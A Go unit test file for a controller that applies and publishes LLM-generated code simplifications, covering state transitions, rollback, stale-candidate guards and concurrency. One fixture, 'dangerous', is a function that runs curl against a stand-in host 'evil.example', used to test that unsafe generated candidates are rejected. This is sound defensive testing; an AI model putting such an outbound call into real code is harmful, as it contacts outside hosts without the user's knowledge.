// Copyright (C) 2025 Aleutian AI (jinterlante@aleutian.ai)
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
// See the LICENSE.txt file for the full license text.
//
// NOTE: This work is subject to additional terms under AGPL v3 Section 7.
// See the NOTICE.txt file for details regarding AI system attribution.

package cycle

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/AleutianAI/evolve/services/evolve/analyzer"
	"github.com/AleutianAI/evolve/services/evolve/generator"
	"github.com/AleutianAI/evolve/services/evolve/modifier"
	"github.com/AleutianAI/evolve/services/evolve/publisher"
	"github.com/AleutianAI/evolve/services/evolve/validator"
)

// Real implementations must satisfy the controller's collaborator
// interfaces.
var (
	_ Generator = (*generator.LLMGenerator)(nil)
	_ Publisher = (*publisher.GitPublisher)(nil)
)

const testFile = "mathx.go"

const testSource = `package mathx

func classify(n int) string {
	if n < 0 {
		return "neg"
	}
	if n == 0 {
		return "zero"
	}
	if n > 100 {
		return "big"
	}
	return "pos"
}
`

const simplified = `func classify(n int) string {
	if n < 0 {
		return "neg"
	}
	return "pos"
}`

const dangerous = `func classify(n int) string {
	exec.Command("curl", "evil.example").Run()
	return ""
}`

// stubGen returns canned proposed texts in order, cycling on the last.
type stubGen struct {
	mu        sync.Mutex
	responses []string
	err       error
	calls     int
}

var _ Generator = (*stubGen)(nil)

func (g *stubGen) Generate(_ context.Context, unit analyzer.SourceUnit, opp analyzer.Opportunity) (validator.Candidate, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.calls++
	if g.err != nil {
		return validator.Candidate{}, g.err
	}
	idx := g.calls - 1
	if idx >= len(g.responses) {
		idx = len(g.responses) - 1
	}
	return validator.Candidate{
		Unit:         unit,
		Opportunity:  opp,
		ProposedText: g.responses[idx],
	}, nil
}

// stubPub records the publish request and returns a canned result or
// error.
type stubPub struct {
	mu  sync.Mutex
	req *publisher.PublishRequest
	err error
}

var _ Publisher = (*stubPub)(nil)

func (p *stubPub) Publish(_ context.Context, req publisher.PublishRequest) (*publisher.PublishResult, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.req = &req
	if p.err != nil {
		return nil, p.err
	}
	return &publisher.PublishResult{
		Branch:     "evolve/" + req.CycleID,
		CommitHash: "deadbeef",
	}, nil
}

// newController seeds a workspace with testSource and wires a
// controller with a low complexity threshold so classify is flagged.
func newController(t *testing.T, gen Generator, pub Publisher) (*Controller, *modifier.OSFS) {
	t.Helper()
	root := t.TempDir()
	if err := os.WriteFile(filepath.Join(root, testFile), []byte(testSource), 0o644); err != nil {
		t.Fatalf("seed file: %v", err)
	}
	fs, err := modifier.NewOSFS(root)
	if err != nil {
		t.Fatalf("NewOSFS: %v", err)
	}
	a := analyzer.New(analyzer.WithComplexityThreshold(2))
	opts := []Option{WithAnalyzer(a)}
	if pub != nil {
		opts = append(opts, WithPublisher(pub))
	}
	return New(fs, gen, opts...), fs
}

func TestRunCycle_AppliesAndPublishes(t *testing.T) {
	gen := &stubGen{responses: []string{simplified}}
	pub := &stubPub{}
	ctrl, fs := newController(t, gen, pub)

	report, err := ctrl.RunCycle(context.Background(), []string{testFile})
	if err != nil {
		t.Fatalf("RunCycle error: %v", err)
	}
	if report.State != StateDone {
		t.Fatalf("State = %s, want DONE", report.State)
	}
	if report.FilesAnalyzed != 1 || report.OpportunitiesFound != 1 {
		t.Errorf("analyzed %d files, %d opportunities, want 1/1",
			report.FilesAnalyzed, report.OpportunitiesFound)
	}
	if len(report.Applied) != 1 {
		t.Fatalf("Applied = %d, want 1", len(report.Applied))
	}

	written, err := fs.Read(testFile)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	if strings.Contains(string(written), `"zero"`) {
		t.Error("original unit body still on disk")
	}

	if report.Publish == nil || report.Publish.CommitHash == "" {
		t.Fatalf("Publish = %+v, want a result", report.Publish)
	}
	if pub.req == nil || len(pub.req.Files) != 1 || pub.req.Files[0] != testFile {
		t.Errorf("publish request = %+v", pub.req)
	}
	if ctrl.State() != StateIdle {
		t.Errorf("controller state = %s, want IDLE after the cycle", ctrl.State())
	}

	// Audit trail walks the full state machine.
	var states []State
	for _, tr := range report.Transitions {
		states = append(states, tr.To)
	}
	want := []State{StateAnalyzing, StateGenerating, StateValidating, StateApplying, StatePublishing, StateDone}
	if len(states) != len(want) {
		t.Fatalf("transitions = %v, want %v", states, want)
	}
	for i := range want {
		if states[i] != want[i] {
			t.Fatalf("transitions = %v, want %v", states, want)
		}
	}
}

func TestRunCycle_UnsafeCandidateIsRejected(t *testing.T) {
	gen := &stubGen{responses: []string{dangerous}}
	ctrl, fs := newController(t, gen, nil)

	report, err := ctrl.RunCycle(context.Background(), []string{testFile})
	if err != nil {
		t.Fatalf("RunCycle error: %v", err)
	}
	if report.State != StateDone {
		t.Fatalf("State = %s, want DONE when nothing applied", report.State)
	}
	if len(report.Applied) != 0 {
		t.Fatalf("Applied = %d, want 0", len(report.Applied))
	}
	if gen.calls != 1 {
		t.Fatalf("generator calls = %d, want 1 per opportunity", gen.calls)
	}
	if len(report.Attempts) != 1 {
		t.Fatalf("Attempts = %d, want 1", len(report.Attempts))
	}
	attempt := report.Attempts[0]
	if attempt.Outcome != AttemptRejected {
		t.Errorf("outcome = %s, want rejected", attempt.Outcome)
	}
	if len(attempt.Violations) == 0 {
		t.Error("rejected attempt has no recorded violations")
	}

	current, _ := fs.Read(testFile)
	if string(current) != testSource {
		t.Error("file changed despite the candidate being rejected")
	}
}

func TestRunCycle_StaleGuardCatchesSecondApplyToSameFile(t *testing.T) {
	const twoUnitSource = `package mathx

func classify(n int) string {
	if n < 0 {
		return "neg"
	}
	if n == 0 {
		return "zero"
	}
	if n > 100 {
		return "big"
	}
	return "pos"
}

func sign(n int) int {
	if n < 0 {
		return -1
	}
	if n > 0 {
		return 1
	}
	return 0
}
`
	const simplifiedSign = `func sign(n int) int {
	if n < 0 {
		return -1
	}
	return 1
}`

	gen := &stubGen{responses: []string{simplified, simplifiedSign}}
	ctrl, fs := newController(t, gen, nil)
	if err := fs.WriteAtomic(context.Background(), testFile, []byte(twoUnitSource)); err != nil {
		t.Fatalf("seed: %v", err)
	}

	report, err := ctrl.RunCycle(context.Background(), []string{testFile})
	if err != nil {
		t.Fatalf("RunCycle error: %v", err)
	}
	if report.State != StateDone {
		t.Fatalf("State = %s, want DONE", report.State)
	}
	if report.OpportunitiesFound != 2 {
		t.Fatalf("OpportunitiesFound = %d, want 2", report.OpportunitiesFound)
	}
	if len(report.Applied) != 1 {
		t.Fatalf("Applied = %d, want 1", len(report.Applied))
	}

	var applied, applyFailed int
	for _, attempt := range report.Attempts {
		switch attempt.Outcome {
		case AttemptApplied:
			applied++
		case AttemptApplyFailed:
			applyFailed++
			if !strings.Contains(attempt.Detail, "stale") {
				t.Errorf("apply failure detail = %q, want stale candidate", attempt.Detail)
			}
		}
	}
	if applied != 1 || applyFailed != 1 {
		t.Fatalf("applied=%d applyFailed=%d, want 1/1", applied, applyFailed)
	}

	current, _ := fs.Read(testFile)
	if strings.Contains(string(current), `"zero"`) {
		t.Error("highest-priority unit was not rewritten")
	}
	if !strings.Contains(string(current), "return 0") {
		t.Error("second unit should be untouched after the stale rejection")
	}
}

func TestRunCycle_PublishFailureRollsBack(t *testing.T) {
	const secondFile = "other.go"
	gen := &stubGen{responses: []string{simplified}}
	pub := &stubPub{err: errors.New("remote rejected push")}
	ctrl, fs := newController(t, gen, pub)
	if err := fs.WriteAtomic(context.Background(), secondFile, []byte(testSource)); err != nil {
		t.Fatalf("seed: %v", err)
	}

	report, err := ctrl.RunCycle(context.Background(), []string{testFile, secondFile})
	if err == nil {
		t.Fatal("expected publish error")
	}
	if report == nil {
		t.Fatal("report must be returned for a failed cycle")
	}
	if report.State != StateFailed {
		t.Fatalf("State = %s, want FAILED", report.State)
	}
	if len(report.Applied) != 2 {
		t.Fatalf("Applied = %d, want 2 before rollback", len(report.Applied))
	}
	if !report.RolledBack {
		t.Error("RolledBack = false, want true")
	}

	for _, file := range []string{testFile, secondFile} {
		current, readErr := fs.Read(file)
		if readErr != nil {
			t.Fatalf("Read %s: %v", file, readErr)
		}
		if string(current) != testSource {
			t.Errorf("rollback did not restore %s", file)
		}
	}
}

// flakyFS delegates to the wrapped FS until failWrites is set, after
// which every write fails.
type flakyFS struct {
	modifier.FS
	mu         sync.Mutex
	failWrites bool
	err        error
}

func (f *flakyFS) WriteAtomic(ctx context.Context, path string, data []byte) error {
	f.mu.Lock()
	fail := f.failWrites
	f.mu.Unlock()
	if fail {
		return f.err
	}
	return f.FS.WriteAtomic(ctx, path, data)
}

func (f *flakyFS) setFail(fail bool) {
	f.mu.Lock()
	f.failWrites = fail
	f.mu.Unlock()
}

// hookPub runs a hook before failing, so a test can break the FS
// between apply and rollback.
type hookPub struct {
	before func()
	err    error
}

func (p *hookPub) Publish(_ context.Context, _ publisher.PublishRequest) (*publisher.PublishResult, error) {
	if p.before != nil {
		p.before()
	}
	return nil, p.err
}

func TestRunCycle_RollbackFailureSurfaces(t *testing.T) {
	root := t.TempDir()
	if err := os.WriteFile(filepath.Join(root, testFile), []byte(testSource), 0o644); err != nil {
		t.Fatalf("seed file: %v", err)
	}
	osfs, err := modifier.NewOSFS(root)
	if err != nil {
		t.Fatalf("NewOSFS: %v", err)
	}
	fs := &flakyFS{FS: osfs, err: errors.New("disk full")}
	gen := &stubGen{responses: []string{simplified}}
	pub := &hookPub{before: func() { fs.setFail(true) }, err: errors.New("remote rejected push")}
	a := analyzer.New(analyzer.WithComplexityThreshold(2))
	ctrl := New(fs, gen, WithAnalyzer(a), WithPublisher(pub))

	report, err := ctrl.RunCycle(context.Background(), []string{testFile})
	if err == nil {
		t.Fatal("expected an error carrying both failures")
	}
	if !strings.Contains(err.Error(), "remote rejected push") {
		t.Errorf("error %v does not carry the publish failure", err)
	}
	if !strings.Contains(err.Error(), "disk full") {
		t.Errorf("error %v does not carry the rollback failure", err)
	}
	if report.RolledBack {
		t.Error("RolledBack = true despite a failed rollback write")
	}
	if report.State != StateFailed {
		t.Fatalf("State = %s, want FAILED", report.State)
	}
}

func TestRunCycle_ControllerReturnsToIdle(t *testing.T) {
	gen := &stubGen{responses: []string{simplified}}
	ctrl, _ := newController(t, gen, nil)

	if _, err := ctrl.RunCycle(context.Background(), []string{testFile}); err != nil {
		t.Fatalf("first RunCycle error: %v", err)
	}
	if ctrl.State() != StateIdle {
		t.Fatalf("State = %s, want IDLE between cycles", ctrl.State())
	}

	report, err := ctrl.RunCycle(context.Background(), []string{testFile})
	if err != nil {
		t.Fatalf("second RunCycle error: %v", err)
	}
	if len(report.Transitions) == 0 || report.Transitions[0].From != StateIdle {
		t.Fatalf("second cycle transitions = %+v, want to start from IDLE", report.Transitions)
	}
}

func TestRunCycle_GenerationFailureIsRecorded(t *testing.T) {
	gen := &stubGen{err: errors.New("model unavailable")}
	ctrl, _ := newController(t, gen, nil)

	report, err := ctrl.RunCycle(context.Background(), []string{testFile})
	if err != nil {
		t.Fatalf("RunCycle error: %v", err)
	}
	if report.State != StateDone {
		t.Fatalf("State = %s, want DONE", report.State)
	}
	if len(report.Attempts) != DefaultMaxAttempts {
		t.Fatalf("Attempts = %d, want %d", len(report.Attempts), DefaultMaxAttempts)
	}
	for _, attempt := range report.Attempts {
		if attempt.Outcome != AttemptGenerationFailed {
			t.Errorf("outcome = %s, want generation_failed", attempt.Outcome)
		}
	}
}

func TestRunCycle_SecondCallFailsImmediately(t *testing.T) {
	release := make(chan struct{})
	started := make(chan struct{})
	var once sync.Once
	gen := &blockingGen{
		started: func() { once.Do(func() { close(started) }) },
		release: release,
	}
	ctrl, _ := newController(t, gen, nil)

	done := make(chan struct{})
	go func() {
		defer close(done)
		ctrl.RunCycle(context.Background(), []string{testFile})
	}()

	<-started
	_, err := ctrl.RunCycle(context.Background(), []string{testFile})
	if !errors.Is(err, ErrCycleInProgress) {
		t.Fatalf("err = %v, want ErrCycleInProgress", err)
	}
	close(release)
	<-done

	// The controller is reusable once the first cycle finishes.
	if _, err := ctrl.RunCycle(context.Background(), []string{testFile}); errors.Is(err, ErrCycleInProgress) {
		t.Fatal("controller still locked after cycle finished")
	}
}

// blockingGen signals when generation starts and waits for release.
type blockingGen struct {
	started func()
	release chan struct{}
}

func (g *blockingGen) Generate(ctx context.Context, unit analyzer.SourceUnit, opp analyzer.Opportunity) (validator.Candidate, error) {
	g.started()
	select {
	case <-g.release:
	case <-ctx.Done():
		return validator.Candidate{}, ctx.Err()
	}
	return validator.Candidate{}, errors.New("released without result")
}

func TestRunCycle_NoPaths(t *testing.T) {
	ctrl, _ := newController(t, &stubGen{responses: []string{simplified}}, nil)
	if _, err := ctrl.RunCycle(context.Background(), nil); !errors.Is(err, ErrNoPaths) {
		t.Fatalf("err = %v, want ErrNoPaths", err)
	}
}

func TestRunCycle_AnalysisErrorsAreSkipped(t *testing.T) {
	gen := &stubGen{responses: []string{simplified}}
	ctrl, _ := newController(t, gen, nil)

	report, err := ctrl.RunCycle(context.Background(), []string{"missing.go", testFile})
	if err != nil {
		t.Fatalf("RunCycle error: %v", err)
	}
	if report.FilesAnalyzed != 1 {
		t.Errorf("FilesAnalyzed = %d, want 1", report.FilesAnalyzed)
	}
	if len(report.AnalysisErrors) != 1 {
		t.Errorf("AnalysisErrors = %v, want one entry", report.AnalysisErrors)
	}
	if len(report.Applied) != 1 {
		t.Errorf("Applied = %d, want 1", len(report.Applied))
	}
}

func TestRunCycle_CancelledContext(t *testing.T) {
	ctrl, fs := newController(t, &stubGen{responses: []string{simplified}}, nil)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	report, err := ctrl.RunCycle(ctx, []string{testFile})
	if err == nil {
		t.Fatal("expected context error")
	}
	if report != nil && report.State != StateFailed {
		t.Errorf("State = %s, want FAILED", report.State)
	}

	current, readErr := fs.Read(testFile)
	if readErr != nil {
		t.Fatalf("Read: %v", readErr)
	}
	if string(current) != testSource {
		t.Error("cancelled cycle left the file modified")
	}
}
